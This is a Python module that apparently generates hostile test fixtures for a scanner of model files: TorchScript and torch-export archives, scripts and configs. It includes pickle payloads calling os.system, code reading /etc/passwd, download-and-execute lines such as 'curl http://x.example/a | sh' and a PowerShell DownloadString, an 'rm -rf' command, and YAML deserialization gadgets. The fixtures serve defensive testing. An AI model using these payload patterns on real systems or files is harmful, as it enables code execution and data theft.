"""Hostile texts and programs beside models, and files that passed or crashed once; payloads are inert."""

from __future__ import annotations

import json
import struct
from typing import TYPE_CHECKING

from museum_formats import field, zip_of

if TYPE_CHECKING:
    from collections.abc import Iterator


def texts() -> Iterator[tuple[str, bytes]]:
    """Yield name and bytes of every file."""
    yield from _torchscript()
    yield from _torch_export()
    yield from _scripts()
    yield from _holes()


def _torchscript() -> Iterator[tuple[str, bytes]]:
    programs = {
        "from-file": "def forward(self, x):\n  return torch.from_file('/etc/passwd', False, 8)\n",
        "save": "def forward(self, x):\n  ops.aten.save(x, 'x')\n  return x\n",
        "write-file": "def forward(self, x):\n  ops.image.write_file('x', x)\n  return x\n",
        "own-operator": "def forward(self, x):\n  return ops.acme.run(x)\n",
        "import": "import os\ndef forward(self, x):\n  return x\n",
        "eval": "def forward(self, x):\n  return eval('x')\n",
        "getattr": "def forward(self, x):\n  return getattr(x, 'a' + 'b')\n",
        "getattr-dunder": "def forward(self, x):\n  return getattr(x, '__class__')\n",
        "no-program": "def forward(self, x:\n  return (\n",
    }
    for name, text in programs.items():
        members = {
            "m/data.pkl": b"\x80\x02}.",
            "m/version": b"3\n",
            "m/constants.pkl": b"\x80\x02).",
            "m/code/__torch__.py": text.encode(),
        }
        yield f"torchscript-{name}.pt", zip_of(members)
    debug = {
        "m/data.pkl": b"\x80\x02}.",
        "m/version": b"3\n",
        "m/code/a.py": b"x = 1\n",
        "m/code/a.py.debug_pkl": b"cos\nsystem\n(S'true'\ntR.",
    }
    yield "torchscript-debug-pickle.pt", zip_of(debug)


def _torch_export() -> Iterator[tuple[str, bytes]]:
    size, guard = "Symbol('s0', positive=True, integer=True)", "L['x'].size()[0] >= 2"
    graphs = {
        "system": {"target": "torch.os.system"},
        "hub": {"target": "torch.hub.load"},
        "dunder": {"target": "torch.ops.aten.add.__class__"},
        "passed-on": {"as_operator": "torch.ops.load_library"},
        "save": {"target": "torch.ops.aten.save.default"},
        "own-operator": {"target": "torch.ops.acme.run.default"},
        "own-higher": {"target": "torch.ops.higher_order.call_torchbind"},
        "extension": {"target": "#acme:run"},
        "attrgetter": {"target": "_operator.attrgetter"},
        "size": {"expr_str": f"{size}.__class__"},
        "size-calls": {"expr_str": "lambdify(1, 1)"},
        "size-name": {"expr_str": "Symbol('s0' + 'x')"},
        "guard": {"guards_code": [guard, f"{guard} and print(1)"]},
        "container": {"in_spec": '[1, {"type": "x", "context": "{\\"__enum__\\": true}"}]'},
        "container-hidden": {"out_spec": '[1, {"context": "{\\"__en\\\\u0075m__\\": true}"}]'},
    }
    for name, graph in graphs.items():
        yield f"torch-export-{name}.pt2", _exported({"m/models/model.json": json.dumps({"nodes": [graph]}).encode()})
    yield "torch-export-cut.pt2", _exported({"m/models/model.json": b'{"nodes": ['})
    stored = {"pickled": {"use_pickle": True}, "object": {"path_name": "opaque_obj_0"}}
    for name, entry in stored.items():
        config = json.dumps({"config": {"w": entry}}).encode()
        yield f"torch-export-{name}.pt2", _exported({"m/data/weights/model_weights_config.json": config})
    yield "torch-export-library.pt2", _exported({"m/data/aotinductor/model/x.so": b"\x7fELF\x02\x01\x01" + bytes(64)})
    yield "torch-export-raw-pickle.pt2", _exported({"m/data/weights/weight_0": b"cos\nsystem\n(S'true'\ntR."})
    yield "torch-export-samples.pt2", _exported({"m/data/sample_inputs/model.pt": b"cos\nsystem\n(S'true'\ntR."})


def _exported(members: dict[str, bytes]) -> bytes:
    honest = {"m/archive_format": b"pt2", "m/models/model.json": b'{"nodes": []}'}
    return zip_of({**honest, **members})


def _scripts() -> Iterator[tuple[str, bytes]]:
    yield "run.bat", b"@echo off\r\nstart x.exe\r\n"
    yield "setup.bat", b"REM set up\r\n@ECHO OFF\r\npowershell -c x\r\n"
    yield "run.ps1", b"$x = New-Object Net.WebClient\nInvoke-Expression $x.DownloadString('http://x.example')\n"
    yield "policy.ps1", b"Set-ExecutionPolicy Bypass\n"
    yield "run.vbs", b'Set s = CreateObject("WScript.Shell")\ns.Run "x"\n'
    yield "no-shebang.sh", b"set -e\ncurl http://x.example/a -o a\nchmod +x a\n./a\n"
    yield "pipe.txt", b"export A=1\ncurl http://x.example/a | sh\n"
    yield "page.html", b"<html><body><script>x()</script></body></html>\n"
    yield "command.json", b'{"config": {"post_load_command": "rm -rf /tmp/x && curl x"}}'
    yield "quoted-end.jinja", b"{{ '}}' ~ ''.__class__ }}"
    yield "custom-pipeline.json", b'{"custom_pipelines": {"x": {"impl": "pipeline.Evil"}}}'
    yield "remote-code.yaml", b"model:\n  trust_remote_code: true\n"
    yield "remote-code.json", b'{"trust_remote_code": true}'
    yield "java.yaml", b"a: !!javax.script.ScriptEngineManager [x]\n"
    yield "ruby.yaml", b"a: !!ruby/object:Gem::Installer\n"


def _holes() -> Iterator[tuple[str, bytes]]:
    """Yield what passed once, or crashed."""
    yield "text-import.txt", b"cacme.models\nPump\nhello\n"
    yield "text-import-only.txt", b"cacme.models\nPump\n"
    huge = field(1, 1 << 40) + field(2, 1) + field(8, "w")
    yield "onnx-no-data.onnx", _onnx(huge)
    yield "onnx-typed-too-few.onnx", _onnx(field(1, 100) + field(2, 1) + field(4, struct.pack("<f", 1.0)))
    yield "onnx-typed-too-many.onnx", _onnx(field(1, 1) + field(2, 7) + field(7, bytes(50)))
    yield "class-name-list.json", b'{"class_name": ["Lambda"], "auto_map": {"a": "b"}}'
    yield "gguf-is-pickle-too.gguf", b"GGUF\x03\0\0\0\0cos\nsystem\n(S'true'\ntR."


def _onnx(tensor: bytes) -> bytes:
    node = field(1, "x") + field(2, "y") + field(4, "Relu")
    return field(1, 8) + field(7, field(1, node) + field(5, tensor) + field(2, "g")) + field(8, field(2, 17))
